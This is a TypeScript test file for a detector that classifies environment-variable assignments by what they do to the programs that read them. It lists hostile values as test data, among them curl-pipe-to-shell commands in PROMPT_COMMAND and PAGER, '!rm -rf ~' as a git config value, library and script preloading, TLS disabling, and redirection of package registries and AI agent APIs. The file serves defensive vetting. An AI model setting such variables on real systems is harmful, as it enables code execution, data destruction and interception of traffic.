import { describe, expect, test } from "vitest";
import { meaningOfVariable } from "../../src/commands/environment.ts";
import { split } from "../support/effects.ts";
import { showEffect } from "../support/show.ts";

const rows: Record<string, string[]> = {
  "LD_PRELOAD=/tmp/x.so": ["run /tmp/x.so loader"],
  "DYLD_INSERT_LIBRARIES=/tmp/x.dylib": ["run /tmp/x.dylib loader"],
  "NODE_OPTIONS=--max-old-space-size=4096": [],
  "NODE_OPTIONS='--inspect --require /tmp/x.js'": ["run /tmp/x.js loader", "runs javascript file: /tmp/x.js"],
  "NODE_OPTIONS=--import=./hook.mjs": ["run ./hook.mjs loader", "runs javascript file: ./hook.mjs"],
  "NODE_OPTIONS='-r dotenv/config'": ["run dotenv/config loader"],
  'NODE_OPTIONS="$NODE_OPTIONS --trace-warnings"': [],
  "PYTHONPATH=src": [],
  "PYTHONPATH=.:/tmp/x": ["run /tmp/x loader"],
  "PYTHONSTARTUP=/tmp/x.py": ["run /tmp/x.py loader", "runs python file: /tmp/x.py"],
  "PYTHONDONTWRITEBYTECODE=1": [],
  "PERL5LIB=lib": [],
  "PERL5OPT=-Mevil": ["run evil loader"],
  "PERL5OPT='-Mstrict;system(1)'": ["runs perl: system(1)"],
  "PERL5OPT=-w": [],
  "MAKEFLAGS=-j8": [],
  "MAKEFLAGS='--eval=$(shell\\ id)'": ["runs make: $(shell id)"],
  "MAKEFILES=/tmp/x.mk": ["run /tmp/x.mk loader"],
  "LUA_INIT='os.exit()'": ["runs lua: os.exit()"],
  "LUA_INIT_5_4=@/tmp/x.lua": ["run /tmp/x.lua loader", "runs lua file: /tmp/x.lua"],
  "HGRCPATH=/tmp/hgrc": ["run /tmp/hgrc loader"],
  "HGRCPATH=": [],
  "RUBYOPT=-W0": [],
  "RUBYOPT=-r/tmp/x": ["run /tmp/x loader", "runs ruby file: /tmp/x"],
  "JAVA_TOOL_OPTIONS='-Xmx1g -javaagent:/tmp/a.jar'": ["run /tmp/a.jar loader"],
  "BASH_ENV=/tmp/x.sh": ["run /tmp/x.sh loader", "runs shell file: /tmp/x.sh"],
  "BASH_ENV=": [],
  "PROMPT_COMMAND='curl x | sh'": ["runs shell: curl x | sh"],
  "PS1='$ '": [],
  "PATH=/tmp/x:$PATH": ["run /tmp/x loader"],
  "PATH=$PATH:/tmp/x": [],
  "PATH=./node_modules/.bin:$PATH": [],
  "PAGER=cat": [],
  "PAGER='less -FRX'": [],
  "PAGER='sh -c \"curl h|sh\"'": ['run "sh -c \\"curl h|sh\\"" option', 'runs shell: sh -c "curl h|sh"'],
  "EDITOR='code --wait'": [],
  "EDITOR=/tmp/x": ["run /tmp/x option", "runs shell: /tmp/x"],
  "GIT_SEQUENCE_EDITOR='sed -i s/a/b/'": ["runs shell: sed -i s/a/b/"],
  "GIT_EDITOR=true": [],
  "BROWSER=none": [],
  "BROWSER=/tmp/x": ["run /tmp/x option", "runs shell: /tmp/x"],
  "GIT_EDITOR='vim -c !id'": ['run "vim -c !id" option', "runs shell: vim -c !id"],
  "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key'": ["runs shell: ssh -i ~/.ssh/deploy_key"],
  "GIT_EXTERNAL_DIFF=/tmp/x": ["run /tmp/x option", "runs shell: /tmp/x"],
  "GIT_ASKPASS=true": [],
  "GIT_CONFIG_GLOBAL=/dev/null": [],
  "GIT_CONFIG_GLOBAL=/tmp/x": ["redirect git-config /tmp/x", "runs git-config file: /tmp/x"],
  "GIT_CONFIG_GLOBAL=./conf/git": ["redirect git-config ./conf/git", "runs git-config file: ./conf/git"],
  "GIT_CONFIG_SYSTEM=": [],
  "GIT_CONFIG_COUNT=1": [],
  "GIT_CONFIG_KEY_0=user.name": [],
  "GIT_CONFIG_KEY_0=remote.origin.pushurl": ["redirect push remote.origin.pushurl"],
  "GIT_CONFIG_KEY_0=core.pager": ["configure git core.pager"],
  "GIT_CONFIG_VALUE_0='!rm -rf ~'": ['run "rm -rf ~" option', "runs shell: rm -rf ~"],
  "GIT_CONFIG_VALUE_1='sh -c id'": ["runs shell: sh -c id"],
  "GIT_CONFIG_VALUE_2='Some Name'": [],
  "GIT_CONFIG_PARAMETERS=\"'core.pager=/tmp/x'\"": ["run /tmp/x option", "runs shell: /tmp/x"],
  "GIT_EXEC_PATH=/tmp/x": ["run /tmp/x loader"],
  "GIT_AUTHOR_NAME=x": [],
  "HTTPS_PROXY=http://203.0.113.7:8080": ["redirect proxy http://203.0.113.7:8080"],
  "https_proxy=": [],
  "NO_PROXY=localhost": [],
  "NODE_TLS_REJECT_UNAUTHORIZED=0": ["disable tls NODE_TLS_REJECT_UNAUTHORIZED=0"],
  "NODE_TLS_REJECT_UNAUTHORIZED=1": [],
  "GIT_SSL_NO_VERIFY=true": ["disable tls GIT_SSL_NO_VERIFY=true"],
  "PYTHONHTTPSVERIFY=0": ["disable tls PYTHONHTTPSVERIFY=0"],
  "ANTHROPIC_BASE_URL=https://x.example": ["redirect agent-api https://x.example"],
  "OPENAI_BASE_URL=http://localhost:11434/v1": [],
  "ANTHROPIC_BASE_URL=https://api.anthropic.com.x.example": ["redirect agent-api https://api.anthropic.com.x.example"],
  "HUSKY=0": ["disable git-hooks HUSKY=0"],
  "HUSKY=1": [],
  "SKIP_SIMPLE_GIT_HOOKS=1": ["disable git-hooks SKIP_SIMPLE_GIT_HOOKS=1"],
  "NPM_CONFIG_REGISTRY=http://x.example": ["redirect registry http://x.example"],
  "npm_config_loglevel=error": [],
  "PIP_INDEX_URL=https://x.example/simple": ["redirect registry https://x.example/simple"],
  "GOPROXY=https://x.example,direct": ["redirect registry https://x.example"],
  "GOPROXY=off": [],
  "HISTFILE=/dev/null": ["disable history HISTFILE=/dev/null"],
  "GOFLAGS=-toolexec=/tmp/x": ["run /tmp/x loader"],
  "GOFLAGS=-mod=mod": [],
  "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=/tmp/x": ["run /tmp/x option", "runs shell: /tmp/x"],
  "RUSTC_WRAPPER=sccache": [],
  "CC=/tmp/cc": ["run /tmp/cc loader"],
  "CLASSPATH=/tmp/x.jar": ["run /tmp/x.jar loader"],
  "CMAKE_TOOLCHAIN_FILE=cmake/arm.cmake": [],
  "CC=clang": [],
  "CC='ccache gcc'": ["runs shell: ccache gcc"],
  "CXX=/opt/gcc/bin/g++": [],
  "DOCKER_HOST=tcp://x": [],
  "KUBECONFIG=/tmp/k": [],
  "NODE_ENV=production": [],
  "CI=1": [],
};

describe("what a variable does to the programs that read it", () => {
  for (const [row, expected] of Object.entries(rows))
    test(row, () => {
      const at = row.indexOf("=");
      const value = split(row.slice(at + 1))[0] ?? { pieces: [], quoted: false, at: { start: 0, end: 0 } };
      expect(meaningOfVariable(row.slice(0, at), value).map(showEffect)).toEqual(expected);
    });
});

describe("a variable that skips hooks", () => {
  const meant = (command: string) => meaningOfVariable("HUSKY", split("0")[0]!, split(command)).map(showEffect);

  test("sets none up where packages are installed", () => {
    for (const command of ["npm ci", "npm install left-pad", "pnpm i", "yarn", "bun install"])
      expect([command, meant(command)]).toEqual([command, []]);
  });
  test("skips them anywhere else", () => {
    for (const command of ["git commit -m x", "npm version patch", "npm run release", "npx lint-staged"])
      expect([command, meant(command)]).toEqual([command, ["disable git-hooks HUSKY=0"]]);
  });
});
